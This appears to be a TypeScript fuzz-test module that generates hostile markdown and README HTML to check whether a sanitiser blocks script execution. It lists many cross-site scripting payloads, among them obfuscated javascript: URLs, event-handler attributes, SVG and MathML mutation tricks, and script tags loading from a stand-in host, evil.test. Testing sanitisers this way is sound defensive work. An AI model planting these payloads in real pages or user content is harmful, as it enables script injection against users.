/**
 * Hostile input for gate 6: markdown and README HTML built from the tricks that get past naive
 * sanitisers. Every payload calls `alert`, sets `top.__pwned` or navigates to a scheme that runs
 * code, so the browser check can tell when one ran.
 */
import fc from 'fast-check';

/** What a payload does when it runs. */
export const RUN = 'top.__pwned=1;alert(1)';

/** `javascript:` and friends written the ways browsers still accept them. */
export const dangerousUrl: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('javascript', 'data', 'vbscript', 'jav\tascript', 'java\nscript', 'java&#x09;script', 'java&Tab;script', '&#106;avascript', '&#x6A;avascript', '&#0000106avascript', 'javascript&colon;'),
    fc.constantFrom('', ' ', '\u0001', '  \t'),
    fc.constantFrom(`:${RUN}`, `:text/html,<script>${RUN}</script>`, ':text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `:msgbox(1)`, `%3A${RUN}`),
    fc.boolean(),
  )
  .map(([scheme, lead, rest, upper]) => {
    const s = upper ? scheme.replace(/[a-z]/g, (c, i: number) => (i % 2 === 0 ? c.toUpperCase() : c)) : scheme;
    return `${lead}${s}${s.endsWith(';') ? rest.slice(1) : rest}`;
  });

/** Places a URL where markdown or HTML follows it. */
const urlPlacement: fc.Arbitrary<string> = fc
  .tuple(
    dangerousUrl,
    fc.constantFrom(
      (u: string) => `[click](${u.replace(/\s/g, '')})`,
      (u: string) => `[click](<${u}>)`,
      (u: string) => `![img](${u.replace(/\s/g, '')})`,
      (u: string) => `[ref][r]\n\n[r]: <${u}>`,
      (u: string) => `<${u.replace(/\s/g, '')}>`,
      (u: string) => `<a href="${u}">a</a>`,
      (u: string) => `<a href='${u}'>a</a>`,
      (u: string) => `<a href=${u.replace(/\s/g, '')}>a</a>`,
      (u: string) => `<img src="${u}" alt="x">`,
      (u: string) => `<img srcset="${u} 1x" alt="x">`,
      (u: string) => `<iframe src="${u}"></iframe>`,
      (u: string) => `<form action="${u}"><button formaction="${u}">go</button></form>`,
      (u: string) => `<object data="${u}"></object><embed src="${u}">`,
      (u: string) => `<svg><a xlink:href="${u}"><text x="0" y="10">svg link</text></a></svg>`,
      (u: string) => `<svg><a href="${u}"><circle r="5"></circle></a></svg>`,
      (u: string) => `<math><mi xlink:href="${u}">math</mi><maction actiontype="statusline" href="${u}">x</maction></math>`,
      (u: string) => `<area href="${u}"><video poster="${u}"></video><blockquote cite="${u}">q</blockquote>`,
      (u: string) => `<base href="${u}">`,
      (u: string) => `<meta http-equiv="refresh" content="0;url=${u}">`,
    ),
  )
  .map(([u, place]) => place(u));

/** Markup that runs code without any URL. */
const markupPayload: fc.Arbitrary<string> = fc.constantFrom(
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="//evil.test/x.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<style>body{background:url("javascript:${RUN}")}</style><style>@import "//evil.test/x.css";</style>`,
  `<div style="background-image:url(javascript:${RUN})">styled</div>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/OnErRoR=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"></set></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<div onmouseover="${RUN}" onclick="${RUN}">hover</div>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<a href="#" id="initial-data">clobber</a><img name="initial-data" src="/x.png" alt="">`,
  `<form id="root"><input name="documentElement"></form>`,
  `<h2 id="main">Main</h2>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<link rel="stylesheet" href="//evil.test/x.css"><meta charset="utf-7">`,
);

/** Markdown constructs that carry text into attributes or code. */
const markdownPayload: fc.Arbitrary<string> = fc.constantFrom(
  `## <img src=x onerror="${RUN}">`,
  '## Initial data',
  '## Root',
  `\`\`\`html title="<img src=x onerror=${RUN}>"\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`js {1}\nalert("</code></pre><script>${RUN}</script>")\n\`\`\``,
  `> [!NOTE]\n> <script>${RUN}</script>`,
  `| a | b |\n| - | - |\n| <img src=x onerror="${RUN}"> | [x](javascript:${RUN}) |`,
  `*emphasis <span onclick="${RUN}">inline</span>*`,
  `[text](https://example.com "title\\" onmouseover=\\"${RUN}")`,
);

/** A hostile markdown document: a few payloads in ordinary prose. */
export const hostileMarkdown: fc.Arbitrary<string> = fc
  .array(fc.tuple(fc.oneof(urlPlacement, markupPayload, markdownPayload), fc.constantFrom('\n\n', '\n', ' ', ' text ')), { minLength: 1, maxLength: 5 })
  .map((parts) => `Some prose first.\n\n${parts.map(([p, sep]) => `${p}${sep}`).join('')}\n`);

/** A hostile README: a title, badges, HTML blocks with payloads, sections. */
export const hostileReadme: fc.Arbitrary<string> = fc
  .tuple(hostileMarkdown, fc.oneof(urlPlacement, markupPayload))
  .map(([body, html]) => `<div align="center">\n  ${html}\n</div>\n\n# some-loader\n\n[![npm](https://img.shields.io/npm/v/x.svg)](https://npmjs.com/package/x)\n\n## Getting Started\n\n${body}\n<p>\n${html}\n</p>\n\n## Options\n\n${body}`);
